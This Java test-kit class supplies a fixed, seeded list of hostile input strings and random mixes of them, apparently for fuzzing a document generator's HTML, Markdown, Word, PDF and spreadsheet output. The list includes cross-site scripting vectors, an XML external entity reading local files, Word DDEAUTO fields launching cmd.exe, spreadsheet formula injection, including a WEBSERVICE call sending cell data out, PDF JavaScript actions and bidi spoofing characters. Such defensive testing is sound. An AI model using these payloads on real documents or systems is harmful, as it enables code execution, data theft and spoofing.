package org.throughline.briefing.testkit;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;

/** Texts that try to become something else than text: markup, scripts, formulas, fields, operators, addresses, signs. */
public final class HostileTexts {

  /** With which number they are mixed; the same texts each time. */
  static final long SEED = 20_261_123;

  private static final int LONGEST_PIECE = 400;
  private static final List<String> SEEDS = List.of("<script>alert(1)</script>", "</script><script>x()</script>",
      "<img src=x onerror=alert(1)>", "<img src='file:///etc/passwd'>", "\"><svg onload=alert(1)>",
      "' onmouseover='alert(1)", "javascript:alert(1)", "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))",
      "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](file:///etc/passwd)", "[a](http://example.org/\"><x)",
      "[a](mailto:a%b@c?subject=%0d%0a)", "[a](http://[bad)", "![a](http://example.org/x.png)",
      "<a href=\"javascript:alert(1)\">a</a>", "<a href='vbscript:x'>", "]]>", "<![CDATA[<b>]]>", "<!-- -->", "--><b>",
      "<?xml version=\"1.0\"?>", "<?mso-application progid=\"Word.Document\"?>",
      "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///'>]>&e;", "&lt;b&gt;", "&#60;script&#62;", "&#x3c;script>", "&#x13;",
      "&amp;amp;", "&amp;#60;", "</style><b>", "</title><b>", "</svg><b>", "</desc><script>1</script>",
      "<iframe src=//x>", "<object data=x>", "<base href=//x>", "<meta http-equiv=refresh content=0>",
      "<link rel=stylesheet href=//x>", "<bookmark name=x href=y>", "<math><mi xlink:href=\"javascript:1\">",
      "<form action=//x><input>", "<svg><animate onbegin=alert(1)>", "<p style=\"x:url(//x)\">",
      "<details open ontoggle=x>", "<details><summary>", "<sCrIpT>x</ScRiPt>", "＜script＞", "%3Cscript%3E",
      "*/ } body { display: none } /*", "url(http://example.org/x)", "@import url(//x)", "@page { size: 1px }",
      "\"};alert(1)//", "\\\"; } body { x", "{{7*7}}", "${7*7}", "<%= 1 %>", "{accent}", "{more}", "%s%n$\\1",
      "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r>", "<w:fldSimple w:instr=\"DDE\"/>",
      "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }", "{ INCLUDEPICTURE \"http://example.org/x\" }",
      "{ INCLUDETEXT \"\\\\\\\\host\\\\share\\\\x\" }", "HYPERLINK \"file:///etc/passwd\"", "\u0013 PAGE \u0014 1 \u0015",
      "../../word/document.xml", "rId1", "(Tj) Do BT /JS (app.alert(1)) >> endobj", "\\) Tj ET Q",
      "/Launch /URI /OpenAction", "=cmd|'/c calc'!A1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1",
      "=HYPERLINK(\"http://x\")", "=WEBSERVICE(\"http://x/\"&A1)", "<f>1</f>", "_x003D_1", "\0=1", "x'[1]:*?/\\", "\0",
      "a\0b", "a\0b<script\0>", "\u202Egnp.exe", "\u200F\u200Eשלום", "\u2066\u2067x", "\uD800", "\uDFFF\uD83D",
      "\uFFFE\uFFFF", "\u0007\u001B[31m", "a\u2028\u2029b", "\uFEFF<b>", "𝕏<𝕓>", "😀<b>👨‍👩‍👧", "\t\t", "\r\n\r\n",
      "a".repeat(5_000), "<".repeat(300), "&".repeat(300), "> ".repeat(200), "*".repeat(400), "[".repeat(400),
      "`".repeat(99) + "<b>", "http://x\"onclick=1", "https://a b", "mailto:a\"b@c", "a\u0301\u0302\u0303".repeat(50),
      "لا إله".repeat(40));

  private HostileTexts() {}

  /**
   * Each of them, and pieces of them mixed.
   *
   * @param wanted how many, at least 150
   * @param longest how many characters each of those that are mixed has at most
   */
  public static List<String> of(int wanted, int longest) {
    Random random = new Random(SEED);
    List<String> seeds = SEEDS.stream().map(each -> beginning(each, longest)).toList();
    Set<String> texts = new LinkedHashSet<>(seeds);
    while (texts.size() < wanted) {
      StringBuilder text = new StringBuilder();
      for (int i = 1 + random.nextInt(3); i > 0; i--) {
        String seed = seeds.get(random.nextInt(seeds.size()));
        int from = random.nextInt(4) == 0 ? random.nextInt(seed.length()) : 0;
        text.append(beginning(seed.substring(from), LONGEST_PIECE)).append(random.nextBoolean() ? "\n\n" : " ");
      }
      texts.add(random.nextInt(3) == 0 ? text.toString().toUpperCase(Locale.ROOT) : text.toString());
    }
    return new ArrayList<>(texts).subList(0, wanted);
  }

  private static String beginning(String text, int longest) {
    return text.substring(0, Math.min(longest, text.length()));
  }
}
